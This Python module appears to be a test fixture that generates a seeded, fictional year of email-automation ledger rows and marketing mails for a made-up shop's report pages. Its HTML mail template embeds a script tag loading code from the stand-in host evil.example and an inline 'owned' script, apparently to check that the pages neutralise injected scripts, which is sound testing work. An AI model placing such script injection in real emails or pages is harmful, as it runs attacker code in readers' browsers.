"""A made-up year of a shop for the pages: rows of a dozen rules and their mails, the same for the same seed."""

from __future__ import annotations

import datetime as dt
import random

from relight.base.instants import DAY, HOUR, MINUTE, to_instant
from relight.messages.ledger import LedgerRow, OutboxMessage, occurrence_key
from relight.messages.reasons import Reason, RowState
from relight.simulate.pages import About, DeadGroup, PageData, StreamCounts, choose_mails, gather

ZONE = "Europe/Istanbul"
BEGAN = to_instant(dt.datetime(2025, 11, 24, 6, tzinfo=dt.UTC))
DAYS = 364
#: rule → (title, weight, refusals by weight, is it triggered by a global event)
RULES: dict[str, tuple[str, int, dict[Reason, int], bool]] = {
    "quiet": (
        "Gone quiet",
        2600,
        {Reason.FREQUENCY_CAP: 7, Reason.NO_CONSENT: 5, Reason.EXIT: 9, Reason.GROUP: 6},
        False,
    ),
    "how_was_it": (
        "How was it?",
        1700,
        {Reason.SENSITIVE_HOLD: 6, Reason.NO_CONSENT: 7, Reason.FREQUENCY_CAP: 12},
        False,
    ),
    "time_to_refill": ("Time to refill", 1100, {Reason.NO_CONSENT: 9, Reason.EXIT: 22, Reason.MISSING_DATA: 2}, False),
    "whats_new": ("What’s new for the quiet", 900, {Reason.AUDIENCE_FALSE: 40, Reason.NO_CONSENT: 6}, False),
    "milestone": ("Milestones", 820, {Reason.FREQUENCY_CAP: 18, Reason.SUPPRESSED: 2}, False),
    "can_we_help": ("Less and less", 640, {Reason.SENSITIVE_HOLD: 14, Reason.GROUP: 10}, False),
    "winback": ("Win back with an offer", 510, {Reason.HOLDOUT: 30, Reason.NO_CONSENT: 12, Reason.SUNSET: 5}, False),
    "invite_your_team": ("Invite your team", 380, {Reason.AUDIENCE_FALSE: 33, Reason.NO_CONSENT: 4}, False),
    "you_asked_we_shipped": ("You asked, we shipped", 260, {Reason.UNLESS: 12, Reason.NO_ADDRESS: 2}, True),
    "trial_feedback": ("A trial that ended", 240, {Reason.LATE_EVENT: 3, Reason.EXPIRED: 4}, False),
    "incident_notice": ("Service notice", 190, {Reason.NO_ADDRESS: 2, Reason.SUPPRESSED: 1}, True),
    "anniversary": ("Anniversary", 0, {}, False),
}
MAIL = """<!DOCTYPE html>
<html lang="{locale}"><head><meta name="color-scheme" content="light dark"><style>
body {{ margin: 0; font: 16px/1.6 Georgia, serif; background: #e9f0f1; }}
.sheet {{ max-width: 600px; margin: 0 auto; padding: 32px 28px; background: #fff; color: #17292f; }}
.go {{ display: inline-block; padding: 13px 26px; background: #0b5d6b; color: #fff; text-decoration: none; }}
@media (prefers-color-scheme: dark) {{ body {{ background: #0b1619; }}
.sheet {{ background: #14262b; color: #e4eef0; }} }}
</style></head><body><div class="sheet"><h1 style="margin: 0 0 16px">{subject}</h1>
<p>{text}</p><p><a class="go" href="https://app.tidewater.example/">{go}</a></p>
<img src="https://pixel.tidewater.example/open.gif" width="1" height="1" alt="">
<script src="https://evil.example/x.js"></script><script>document.title = "owned"</script></div></body></html>"""
TEXTS = {
    "en": ("We kept your board as you left it", "Hello Ada, your three columns are still there.", "Open your board"),
    "tr": ("Panonuz bıraktığınız gibi duruyor", "Merhaba Işık, üç sütununuz hâlâ yerinde.", "Panonu aç"),
}  # fmt: skip
STREAMS = StreamCounts(
    events=104_312, customers=5_000, began=BEGAN, ended=BEGAN + DAYS * DAY, duplicates=1_204, duplicates_differing=3,
    late=41,
    dead=(
        DeadGroup(stream="app", code="not-json", count=7, example="data/app.ndjson:8812: expected a value, found '}'"),
        DeadGroup(stream="shop", code="bad-time", count=3, example="data/shop.csv row 1207: '2026-02-30' is not a date"),
    ),
)  # fmt: skip


def make_rows(*, seed: int = 7, scale: float = 1.0, caps: float = 1.0) -> list[LedgerRow]:
    """Return the rows of a year; `caps` makes refusals more or less frequent."""
    draw = random.Random(seed)
    releases = [BEGAN + day * DAY + 8 * HOUR for day in (40, 117, 203, 300)]
    rows: list[LedgerRow] = []
    for rule, (_title, weight, refusals, is_global) in RULES.items():
        for number in range(int(weight * scale)):
            customer = f"cus_{draw.randint(1, 5000)}"
            day = draw.choice(releases) if is_global else BEGAN + int(DAYS * DAY * draw.random() ** 0.85)
            instant = day // DAY * DAY + draw.randint(5 * 60, 17 * 60) * MINUTE
            rows.extend(_story(draw, rule, customer, instant, number=number, refusals=refusals, caps=caps))
    return rows


def _story(
    draw: random.Random,
    rule: str,
    customer: str,
    instant: int,
    *,
    number: int,
    refusals: dict[Reason, int],
    caps: float,
) -> list[LedgerRow]:
    def row(step: str, state: RowState, reason: Reason | None = None, scheduled: int | None = None) -> LedgerRow:
        return LedgerRow(
            occurrence_key=occurrence_key("shop", rule, customer, occurrence=f"n:{number}", step=step),
            rule=rule, customer=customer, occurrence=f"n:{number}", step=step, state=state,
            reason=None if reason is None else str(reason), judged=instant, scheduled=scheduled, plan_version="p1",
        )  # fmt: skip

    entry = {Reason.AUDIENCE_FALSE, Reason.GROUP, Reason.LATE_EVENT, Reason.EXPIRED}
    for reason, weight in refusals.items():
        if draw.random() * 100 < weight * caps:
            if reason in entry:
                return [row("", RowState.SUPPRESSED, reason)]
            state = RowState.HELD_OUT if reason is Reason.HOLDOUT else RowState.SUPPRESSED
            return [row("", RowState.ENTERED), row("mail", state, reason, instant)]
    rows = [row("", RowState.ENTERED), row("mail", RowState.PENDING, scheduled=instant)]
    if draw.random() < 0.1:
        rows.append(row("later", RowState.ENDED, Reason.GOAL_MET))
    return rows


def make_messages(rows: list[LedgerRow]) -> list[OutboxMessage]:
    """Return the mails of the rows that passed."""
    found = []
    for row in rows:
        if row.state is RowState.PENDING:
            locale = "tr" if int(row.customer[4:]) % 3 == 0 else "en"
            subject, text, go = TEXTS[locale]
            found.append(
                OutboxMessage(
                    occurrence_key=row.occurrence_key,
                    rule=row.rule,
                    customer=row.customer,
                    step=row.step,
                    address=f"{row.customer}@customers.example",
                    message_class="marketing",
                    scheduled=row.scheduled or 0,
                    subject=subject,
                    html=MAIL.format(locale=locale, subject=subject, text=text, go=go),
                    text=text,
                    content_hash="0",
                    template=row.rule,
                    locale=locale,
                )
            )
    return found


def make_page(*, seed: int = 7, scale: float = 1.0, caps: float = 1.0) -> PageData:
    """Return what the pages show of such a year."""
    rows = make_rows(seed=seed, scale=scale, caps=caps)
    day = dt.date(2026, 1, 5).toordinal()
    return gather(
        rows,
        {("invite_your_team", "audience_false", day): 812, ("invite_your_team", "already_entered", day + 1): 64},
        about=About(
            project="Tidewater Boards", zone=ZONE, rules={rule: one[0] for rule, one in RULES.items()}, seconds=41.2
        ),
        streams=STREAMS,
        mails=choose_mails(make_messages(rows), eml_of=lambda one: f"2026-01-01/{one.occurrence_key}.eml"),
    )
